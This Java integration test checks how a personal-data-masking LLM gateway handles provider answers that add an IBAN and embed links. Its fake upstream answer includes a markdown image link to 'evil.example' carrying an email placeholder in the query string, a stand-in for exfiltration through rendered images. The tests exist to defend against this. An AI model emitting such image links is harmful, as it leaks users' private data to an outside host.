package io.countersign.app;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.countersign.audit.read.ExchangeView;
import io.countersign.audit.search.RecordQuery;
import io.countersign.audit.search.SearchScope;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A provider that adds values of its own, and talks the caller's into links. */
class AnswersIntegrationTest {
  private static final String MAIL = "bela.kovacs@corp.example.org";
  private static final String IBAN = "DE02 1203 0000 0000 2020 51";
  private static final String SAID =
      "I wrote to [EMAIL-1]. Pay "
          + IBAN
          + ". ![x](https://evil.example/?q=[EMAIL-1]) [y](https://crm.example.net/[EMAIL-1])";
  private static final String PROMPT =
      "{\"model\":\"gpt-demo\",\"stream\":%s,\"messages\":[{\"role\":\"user\",\"content\":"
          + "\"Write to "
          + MAIL
          + "\"}]}";

  private HttpServer upstream;

  @BeforeEach
  void listen() throws IOException {
    upstream = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    upstream.createContext("/", AnswersIntegrationTest::answer);
    upstream.start();
  }

  @AfterEach
  void stop() {
    upstream.stop(0);
  }

  @Test
  void answer_byDefault_isFlaggedAndItsLinksKeepPlaceholders(@TempDir Path folder)
      throws Exception {
    try (LiveGateway live = start(folder, "")) {
      for (boolean stream : new boolean[] {false, true}) {
        String text = said(live.post("/v1/chat/completions", PROMPT.formatted(stream)));
        assertThat(text)
            .isEqualTo(
                "I wrote to "
                    + MAIL
                    + ". Pay "
                    + IBAN
                    + ". ![x](https://evil.example/?q=[EMAIL-1])"
                    + " [y](https://crm.example.net/[EMAIL-1])");
        assertThat(record(live).added()).isEqualTo(Map.of("IBAN", 1));
        assertMarked(record(live));
      }
    }
  }

  /** What the provider added is found by its type, and not by its words. */
  @Test
  void answer_isSearchedByWhatTheRecordShows(@TempDir Path folder) throws Exception {
    try (LiveGateway live = start(folder, "")) {
      for (boolean stream : new boolean[] {false, true}) {
        live.post("/v1/chat/completions", PROMPT.formatted(stream));
      }
      // The index follows the record, a moment behind.
      for (int attempt = 0; attempt < 100 && found(live, "added:IBAN") < 2; attempt++) {
        Thread.sleep(50);
      }
      assertThat(found(live, "added:IBAN")).isEqualTo(2);
      assertThat(found(live, "\"I wrote to\"")).isEqualTo(2);
      assertThat(found(live, "1203")).isZero();
      assertThat(found(live, "DE02")).isZero();
    }
  }

  private static int found(LiveGateway live, String query) {
    RecordQuery typed = RecordQuery.parse(query);
    SearchScope all = SearchScope.all(false);
    return live.gateway().audit().search().find(typed, all, null, 25).found().size();
  }

  @Test
  void answer_masked_losesWhatTheModelAdded(@TempDir Path folder) throws Exception {
    String answers = "masking: {answers: {added: mask, link-hosts: [crm.example.net]}}\n";
    try (LiveGateway live = start(folder, answers)) {
      for (boolean stream : new boolean[] {false, true}) {
        String text = said(live.post("/v1/chat/completions", PROMPT.formatted(stream)));
        assertThat(text)
            .startsWith("I wrote to " + MAIL + ". Pay [REDACTED]. ![x](https://evil.example/")
            .contains("https://crm.example.net/" + MAIL + ")")
            .doesNotContain("=" + MAIL);
        assertThat(record(live).added()).isEqualTo(Map.of("IBAN", 1));
        assertMarked(record(live));
      }
    }
  }

  @Test
  void answer_refused_isRefusedAndRecorded(@TempDir Path folder) throws Exception {
    try (LiveGateway live = start(folder, "masking: {answers: {types: {iban: refuse}}}\n")) {
      HttpResponse<String> plain = live.post("/v1/chat/completions", PROMPT.formatted(false));
      assertThat(plain.statusCode()).isEqualTo(400);
      assertThat(plain.headers().firstValue("x-should-retry")).contains("false");
      assertThat(plain.body()).contains("answer_not_allowed", "IBAN").doesNotContain("1203");
      assertThat(record(live).code()).isEqualTo("answer_not_allowed");
      HttpResponse<String> stream = live.post("/v1/chat/completions", PROMPT.formatted(true));
      assertThat(stream.body()).contains("answer_not_allowed").doesNotContain("1203", "[DONE]");
      assertThat(record(live).code()).isEqualTo("answer_not_allowed");
    }
  }

  private LiveGateway start(Path folder, String more) throws IOException {
    String url = "http://127.0.0.1:" + upstream.getAddress().getPort() + "/v1";
    return LiveGateway.start(
        folder, yaml -> yaml.replaceFirst("url: http://127.0.0.1:\\d+/v1", "url: " + url) + more);
  }

  private static void assertMarked(ExchangeView record) {
    assertThat(record.maskedOutput())
        .contains("[ADDED-IBAN-1]")
        .doesNotContain("DE02", "1203", "2020", "REDACTED");
  }

  private static ExchangeView record(LiveGateway live) {
    return live.records("ada").get(0);
  }

  /** The text of a plain or streamed answer. */
  private static String said(HttpResponse<String> answer) {
    assertThat(answer.statusCode()).isEqualTo(200);
    StringBuilder text = new StringBuilder();
    for (String piece : answer.body().split("\"content\":\"", -1)) {
      text.append(piece.startsWith("{") || piece.startsWith("data") ? "" : until(piece));
    }
    return text.toString();
  }

  private static String until(String piece) {
    return piece.substring(0, piece.indexOf('"'));
  }

  private static void answer(HttpExchange exchange) throws IOException {
    boolean stream =
        new String(exchange.getRequestBody().readAllBytes(), UTF_8).contains("\"stream\":true");
    StringBuilder body = new StringBuilder();
    if (stream) {
      for (int from = 0; from < SAID.length(); from += 7) {
        String piece = SAID.substring(from, Math.min(SAID.length(), from + 7));
        body.append("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"")
            .append(piece)
            .append("\"}}]}\n\n");
      }
      body.append("data: [DONE]\n\n");
    } else {
      body.append("{\"choices\":[{\"index\":0,\"message\":{\"content\":\"")
          .append(SAID)
          .append("\"}}]}");
    }
    byte[] bytes = body.toString().getBytes(UTF_8);
    String type = stream ? "text/event-stream" : "application/json";
    exchange.getResponseHeaders().set("Content-Type", type);
    exchange.sendResponseHeaders(200, bytes.length);
    exchange.getResponseBody().write(bytes);
    exchange.close();
  }
}
